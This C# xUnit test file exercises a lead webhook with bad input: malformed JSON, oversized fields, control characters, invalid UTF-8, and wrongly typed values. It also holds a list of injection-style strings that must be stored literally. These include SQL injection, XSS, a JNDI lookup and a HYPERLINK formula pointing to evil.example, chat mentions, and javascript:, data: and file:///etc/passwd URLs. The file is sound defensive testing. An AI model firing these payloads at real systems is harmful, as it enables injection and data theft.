using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using TeamBot.Core.Leads;

namespace TeamBot.Host.Tests;

/// <summary>One host for a whole corpus: the default body limit (4 MiB), so a 1 MB field reaches validation.</summary>
public sealed class BadInputHostFixture : IAsyncLifetime
{
    private readonly Lock _gate = new();
    private Task<long>? _lead;

    public TestHost Host { get; private set; } = null!;

    public async Task InitializeAsync() => Host = await TestHost.StartAsync();

    public async Task DisposeAsync() => await Host.DisposeAsync();

    /// <summary>A lead that exists and is posted, for cases that need a real lead number; made once.</summary>
    public Task<long> LeadAsync()
    {
        lock (_gate) return _lead ??= PostLeadAsync();
    }

    private async Task<long> PostLeadAsync()
    {
        var response = await Host.PostLeadsAsync("""{"email":"corpus@acme.com","firstName":"Corpus","company":"Acme"}""");
        var id = JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement.GetProperty("leads")[0].GetProperty("id").GetInt64();
        await Eventually.TrueAsync(async () => (await Host.HandoffCardsAsync()).ContainsKey(id), "the corpus lead is posted");
        // The card shows before the post is recorded (the lead's posted_at, in the commit after the post): the corpus
        // compares rows before and after each case, so it starts once that commit is in.
        await Eventually.TrueAsync(async () => await Host.ScalarAsync(FormattableString.Invariant($"SELECT posted_at FROM leads WHERE id = {id}")) is long,
            "the corpus lead's post is recorded");
        return id;
    }
}

/// <summary>
/// The bad-input corpus for the webhook (issue #7, item 5): every case is refused with 4xx problem details that name
/// the field and the reason, and stores nothing; hostile text that is valid data is stored and shown literally.
/// </summary>
public sealed class BadInputWebhookTests(BadInputHostFixture fixture) : IClassFixture<BadInputHostFixture>
{
    /// <summary>One bad request: its body, and where (path) and what (a fragment of the message) the answer must say.</summary>
    public sealed record Case(byte[] Body, string Path, string Says);

    private static readonly string[] TextFields = ["firstName", "lastName", "company", "title", "source", "segment", "campaign", "country", "email"];
    private static readonly string[] NumberOrTextFields = ["externalId", "phone", "companySize", "score"];
    private static readonly string[] AllFields = [.. TextFields, .. NumberOrTextFields, "reason", "url"];

    private static readonly Dictionary<string, Case> Cases = BuildCases();

    public static TheoryData<string> Rejected => [.. Cases.Keys];

    public static TheoryData<string> Hostile => [.. HostileTexts.Keys];

    /// <summary>Valid data that looks like an attack: stored as sent and shown as text, never as markup or a mention.</summary>
    private static readonly Dictionary<string, string> HostileTexts = new()
    {
        ["sql drop table"] = "'); DROP TABLE leads;--",
        ["sql or 1=1"] = "' OR '1'='1",
        ["sql union"] = "x\" UNION SELECT api_key_hash FROM workspaces --",
        ["everyone"] = "@everyone look",
        ["here"] = "@here now",
        ["discord user mention"] = "<@123456789012345678>",
        ["discord role mention"] = "<@&123456789012345678>",
        ["discord channel mention"] = "<#123456789012345678>",
        ["teams at tag"] = "<at>Sam Carter</at>",
        ["script tag"] = "<script>alert(1)</script>",
        ["img onerror"] = "<img src=x onerror=alert(1)>",
        ["markdown link"] = "[click](https://evil.example)",
        ["markdown js link"] = "[x](javascript:alert(1))",
        ["markdown bold and code"] = "**bold** `code` ~~gone~~ ||spoiler||",
        ["html entity"] = "&lt;b&gt;not bold&lt;/b&gt;",
        ["template braces"] = "{{7*7}} ${jndi:ldap://evil.example/a}",
        ["formula"] = "=HYPERLINK(\"https://evil.example\")",
        ["emoji and rtl-free unicode"] = "Zoë 🚀 ÆØÅ 日本",
    };

    private TestHost Host => fixture.Host;

    private static Dictionary<string, Case> BuildCases()
    {
        var cases = new Dictionary<string, Case>();
        void Add(string name, string json, string path, string says) => cases.Add(name, new Case(Encoding.UTF8.GetBytes(json), path, says));
        void AddBytes(string name, byte[] body, string path, string says) => cases.Add(name, new Case(body, path, says));
        string Lead(string field, string rawValue) =>
            field is "email" ? $$"""{"email":{{rawValue}}}""" : $$"""{"email":"bad@acme.com","{{field}}":{{rawValue}}}""";

        // Wrong JSON types, per field.
        foreach (var field in AllFields)
        {
            var text = TextFields.Contains(field) || field is "reason" or "url";
            var prefix = text ? "must be a string, not " : "must be a number or a string, not ";
            Add($"{field}: true", Lead(field, "true"), field, prefix + "true/false.");
            Add($"{field}: array", Lead(field, """["a"]"""), field, prefix + "an array.");
            Add($"{field}: object", Lead(field, """{"a":1}"""), field, prefix + "an object.");
            if (text) Add($"{field}: number", Lead(field, "42"), field, prefix + "a number.");
        }

        // Huge strings: a 1 MB value in every field.
        var huge = new string('A', 1_000_000);
        foreach (var field in AllFields)
        {
            Add($"{field}: 1 MB string", Lead(field, $"\"{huge}\""), field, "characters (got 1,000,000).");
        }
        Add("fields value: 1 MB string", "{\"email\":\"a@acme.com\",\"fields\":{\"note\":\"" + huge + "\"}}", "fields.note", "must be at most");
        Add("custom field name: 1 MB", "{\"email\":\"a@acme.com\",\"fields\":{\"" + huge + "\":\"x\"}}", FieldErrors.Cap("fields." + huge), "name must be at most 100 characters");
        Add("unknown field name: 1 MB", $$"""{"email":"a@acme.com","{{huge}}":"x"}""", FieldErrors.Cap(huge), "is not a lead field");

        // Control characters and invisible text-direction characters.
        foreach (var field in new[] { "firstName", "company", "source", "reason" })
        {
            foreach (var (label, escaped, code) in new[]
                     {
                         ("NUL", "\\u0000", "U+0000"), ("BEL", "\\u0007", "U+0007"), ("ESC", "\\u001b", "U+001B"), ("DEL", "\\u007f", "U+007F"),
                         ("C1 NEL", "\\u0085", "U+0085"), ("RLO", "\\u202e", "U+202E"), ("LRI", "\\u2066", "U+2066"),
                     })
            {
                Add($"{field}: {label}", Lead(field, $"\"x{escaped}y\""), field, code);
            }
        }
        Add("firstName: line break", Lead("firstName", "\"a\\nb\""), "firstName", "U+000A");
        Add("email: tab", Lead("email", "\"a\\t@acme.com\""), "email", "U+0009");
        Add("fields value: NUL", """{"email":"a@acme.com","fields":{"note":"a\u0000b"}}""", "fields.note", "U+0000");
        Add("unpaired surrogate", Lead("company", "\"\\ud800x\""), "company", "invalid Unicode");
        Add("lone low surrogate", Lead("lastName", "\"\\udc00\""), "lastName", "invalid Unicode");

        // Invalid UTF-8 bytes, in values, in names and as the whole body.
        byte[] Bytes(string before, byte[] bad, string after) => [.. Encoding.UTF8.GetBytes(before), .. bad, .. Encoding.UTF8.GetBytes(after)];
        AddBytes("utf8: C3 28 in a value", Bytes("{\"email\":\"a@acme.com\",\"company\":\"", [0xC3, 0x28], "\"}"), "company", "UTF-8");
        AddBytes("utf8: lone continuation byte", Bytes("{\"email\":\"a@acme.com\",\"firstName\":\"", [0x80], "\"}"), "firstName", "UTF-8");
        AddBytes("utf8: overlong slash", Bytes("{\"email\":\"a@acme.com\",\"title\":\"", [0xC0, 0xAF], "\"}"), "title", "UTF-8");
        AddBytes("utf8: encoded surrogate", Bytes("{\"email\":\"a@acme.com\",\"reason\":\"", [0xED, 0xA0, 0x80], "\"}"), "reason", "UTF-8");
        AddBytes("utf8: truncated sequence", Bytes("{\"email\":\"a@acme.com\",\"source\":\"", [0xE2, 0x82], "\"}"), "source", "UTF-8");
        AddBytes("utf8: FF byte", Bytes("{\"email\":\"a@acme.com\",\"campaign\":\"", [0xFF], "\"}"), "campaign", "UTF-8");
        AddBytes("utf8: in a property name", Bytes("{\"email\":\"a@acme.com\",\"", [0xFE], "\":1}"), "$", "UTF-8");
        AddBytes("utf-16 body", Encoding.Unicode.GetBytes("""{"email":"a@acme.com"}"""), "$", "is not valid JSON");
        AddBytes("binary garbage", [0x00, 0x01, 0x02, 0xFF, 0xFE], "$", "is not valid JSON");

        // Missing and empty.
        Add("empty body", "", "$", "is not valid JSON");
        Add("whitespace body", "   \n ", "$", "is not valid JSON");
        Add("empty object", "{}", "email", "is required");
        Add("no email nor phone", """{"firstName":"Jane","company":"Acme"}""", "email", "is required");
        Add("email empty string", """{"email":""}""", "email", "is required");
        Add("email null", """{"email":null}""", "email", "is required");
        Add("phone blank", """{"phone":"   "}""", "email", "is required");
        Add("empty leads array", """{"leads":[]}""", "leads", "must contain at least one lead.");
        Add("lead in batch is empty", """{"leads":[{"email":"a@acme.com"},{}]}""", "leads[1].email", "is required");

        // Wrong shapes.
        Add("top-level array", "[]", "$", "not an array.");
        Add("top-level string", "\"lead\"", "$", "not a string.");
        Add("top-level number", "42", "$", "not a number.");
        Add("top-level null", "null", "$", "not null.");
        Add("top-level true", "true", "$", "not true/false.");
        Add("leads: object", """{"leads":{}}""", "leads", "not an object.");
        Add("leads: string", """{"leads":"a@acme.com"}""", "leads", "not a string.");
        Add("leads: null", """{"leads":null}""", "leads", "not null.");
        Add("leads item: number", """{"leads":[1]}""", "leads[0]", "not a number.");
        Add("leads item: array", """{"leads":[[{"email":"a@acme.com"}]]}""", "leads[0]", "not an array.");
        Add("leads next to a field", """{"leads":[{"email":"a@acme.com"}],"email":"b@acme.com"}""", "email", "is not allowed next to 'leads'");
        Add("fields: array", """{"email":"a@acme.com","fields":["a"]}""", "fields", "not an array.");
        Add("fields: string", """{"email":"a@acme.com","fields":"a=b"}""", "fields", "not a string.");
        Add("fields: nested object", """{"email":"a@acme.com","fields":{"a":{"b":1}}}""", "fields.a", "not an object.");
        Add("fields: nested array", """{"email":"a@acme.com","fields":{"a":[1]}}""", "fields.a", "not an array.");
        Add("fields: empty name", """{"email":"a@acme.com","fields":{"":"x"}}""", "fields.", "has an empty name.");
        Add("fields: 51 entries", "{\"email\":\"a@acme.com\",\"fields\":{" + string.Join(",", Enumerable.Range(0, 51).Select(i => $"\"f{i}\":{i}")) + "}}", "fields", "at most 50 entries");
        Add("unknown field with hint", """{"emial":"a@acme.com"}""", "emial", "did you mean 'email'?");
        Add("unknown field without hint", """{"email":"a@acme.com","zzzzzz":"1"}""", "zzzzzz", "is not a lead field");
        Add("__proto__ field", """{"email":"a@acme.com","__proto__":{"admin":true}}""", "__proto__", "is not a lead field");

        // Malformed JSON.
        Add("truncated object", """{"email":"a@acme.com",""", "$", "is not valid JSON");
        Add("trailing comma", """{"email":"a@acme.com",}""", "$", "is not valid JSON");
        Add("single quotes", "{'email':'a@acme.com'}", "$", "is not valid JSON");
        Add("comment", """{"email":"a@acme.com" /* hi */}""", "$", "is not valid JSON");
        Add("two documents", """{"email":"a@acme.com"}{"email":"b@acme.com"}""", "$", "is not valid JSON");
        Add("NaN", """{"email":"a@acme.com","score":NaN}""", "$", "is not valid JSON");
        Add("unquoted key", """{email:"a@acme.com"}""", "$", "is not valid JSON");
        Add("raw control char in string", "{\"email\":\"a@acme.com\",\"company\":\"a\u0001b\"}", "$", "is not valid JSON");
        Add("bad escape", """{"email":"a@acme.com","company":"\x41"}""", "$", "is not valid JSON");
        Add("10,000-deep arrays", "{\"email\":\"a@acme.com\",\"fields\":{\"a\":" + new string('[', 10_000) + new string(']', 10_000) + "}}", "$", "depth");
        Add("10,000-deep objects", string.Concat(Enumerable.Repeat("{\"a\":", 10_000)) + "1" + new string('}', 10_000), "$", "depth");
        Add("17-deep in leads", "{\"leads\":[" + new string('[', 16) + new string(']', 16) + "]}", "$", "depth");

        // Duplicate keys.
        foreach (var field in new[] { "email", "firstName", "company", "score", "externalId" })
        {
            var value = field is "score" ? "5" : field is "email" ? "\"x@acme.com\"" : "\"x\"";
            Add($"duplicate key: {field}", $$"""{"email":"a@acme.com","{{field}}":{{value}},"{{field}}":{{value}}}""".Replace("\"email\":\"a@acme.com\",\"email\"", "\"email\"", StringComparison.Ordinal), field, "appears more than once.");
        }
        Add("duplicate key: leads", """{"leads":[{"email":"a@acme.com"}],"leads":[{"email":"b@acme.com"}]}""", "leads", "appears more than once.");
        Add("duplicate key: fields entry", """{"email":"a@acme.com","fields":{"a":1,"a":2}}""", "fields.a", "appears more than once.");
        Add("duplicate key: in a batch lead", """{"leads":[{"email":"a@acme.com","email":"b@acme.com"}]}""", "leads[0].email", "appears more than once.");

        // Values that are the right type but wrong.
        Add("email: no at", Lead("email", "\"not-an-email\""), "email", "is not a valid email address.");
        Add("email: two ats", Lead("email", "\"a@@acme.com\""), "email", "is not a valid email address.");
        Add("email: mention", Lead("email", "\"@everyone\""), "email", "is not a valid email address.");
        Add("email: sql", Lead("email", "\"'); DROP TABLE leads;--\""), "email", "is not a valid email address.");
        Add("email: markup", Lead("email", "\"<script>@x.io\""), "email", "is not a valid email address.");
        Add("phone: letters", Lead("phone", "\"call me\""), "phone", "is not a valid phone number");
        Add("phone: sql", Lead("phone", "\"1; DROP TABLE leads\""), "phone", "is not a valid phone number");
        Add("score: 101", Lead("score", "101"), "score", "must be a number from 0 to 100.");
        Add("score: -1", Lead("score", "-1"), "score", "must be a number from 0 to 100.");
        Add("score: comma decimal", Lead("score", "\"8,5\""), "score", "must be a number from 0 to 100.");
        Add("score: 1e400", Lead("score", "1e400"), "score", "must be a number from 0 to 100.");
        Add("score: text", Lead("score", "\"high\""), "score", "must be a number from 0 to 100.");
        Add("companySize: negative", Lead("companySize", "-5"), "companySize", "must be a number of employees");
        Add("companySize: words", Lead("companySize", "\"lots\""), "companySize", "must be a number of employees");
        Add("companySize: reversed range", Lead("companySize", "\"200-51\""), "companySize", "must be a number of employees");
        Add("url: javascript", Lead("url", "\"javascript:alert(1)\""), "url", "must be an absolute http:// or https:// URL.");
        Add("url: data", Lead("url", "\"data:text/html,<script>alert(1)</script>\""), "url", "must be an absolute http:// or https:// URL.");
        Add("url: relative", Lead("url", "\"/leads/1\""), "url", "must be an absolute http:// or https:// URL.");
        Add("url: file", Lead("url", "\"file:///etc/passwd\""), "url", "must be an absolute http:// or https:// URL.");
        Add("externalId: 201 chars", Lead("externalId", $"\"{new string('x', 201)}\""), "externalId", "must be at most 200");
        Add("reason: 2,001 chars", Lead("reason", $"\"{new string('x', 2001)}\""), "reason", "must be at most 2,000");
        Add("source: 101 chars", Lead("source", $"\"{new string('x', 101)}\""), "source", "must be at most 100");
        Add("batch: 1,001 leads", "{\"leads\":[" + string.Join(",", Enumerable.Range(0, 1001).Select(i => $"{{\"email\":\"l{i}@x.io\"}}")) + "]}", "leads", "at most 1,000 leads");
        return cases;
    }

    [Theory]
    [MemberData(nameof(Rejected))]
    public async Task Rejected_Is400NamingTheFieldAndReason_AndStoresNothing(string name)
    {
        var bad = Cases[name];
        var before = await LeadCountAsync();

        var response = await Host.PostLeadsAsync("", tweak: r => r.Content = new ByteArrayContent(bad.Body) { Headers = { ContentType = new MediaTypeHeaderValue("application/json") } });

        var text = await response.Content.ReadAsStringAsync();
        Assert.True(response.StatusCode == HttpStatusCode.BadRequest, $"{name}: {(int)response.StatusCode} {text}");
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        var errors = JsonDocument.Parse(text).RootElement.GetProperty("errors");
        Assert.True(errors.TryGetProperty(bad.Path, out var messages), $"{name}: expected an error at '{Short(bad.Path)}', got {Short(text)}");
        Assert.Contains(messages.EnumerateArray(), m => m.GetString()!.Contains(bad.Says, StringComparison.Ordinal));
        Assert.Equal(before, await LeadCountAsync());
    }

    [Theory]
    [MemberData(nameof(Hostile))]
    public async Task HostileButValidText_IsStoredAsSent_AndShownLiterally_MentioningNoOne(string name)
    {
        var evil = HostileTexts[name];
        var email = $"hostile-{Guid.NewGuid():N}@acme.com";
        var body = JsonSerializer.Serialize(new Dictionary<string, object>
        {
            ["email"] = email,
            ["firstName"] = evil,
            ["company"] = evil,
            ["reason"] = evil,
            ["fields"] = new Dictionary<string, string> { ["note"] = evil },
        });

        var response = await Host.PostLeadsAsync(body);

        Assert.Equal(HttpStatusCode.Accepted, response.StatusCode);
        var id = JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement.GetProperty("leads")[0].GetProperty("id").GetInt64();
        var card = await Eventually.ElementAsync(async () => (await Host.HandoffCardsAsync()).TryGetValue(id, out var c) ? c : null, "the lead is posted");
        Assert.Equal(email, TestHost.Field(card, "Email"));
        Assert.Contains(evil, card.GetProperty("card").GetProperty("title").GetString()!, StringComparison.Ordinal);
        Assert.Equal($"note: {evil}", TestHost.Field(card, "Details"));
        Assert.Empty(card.GetProperty("notify").EnumerateArray());
        // The leads table survived the SQL-looking text, and the card carries the text as data, not pre-rendered markup.
        Assert.True(await LeadCountAsync() > 0);
        Assert.DoesNotContain("&lt;script", card.GetRawText(), StringComparison.Ordinal);
    }

    private async Task<int> LeadCountAsync() => (await Host.GetReportAsync("period=1d&by=source")).GetProperty("total").GetProperty("leads").GetInt32();

    private static string Short(string text) => text.Length > 300 ? text[..300] + "…" : text;
}
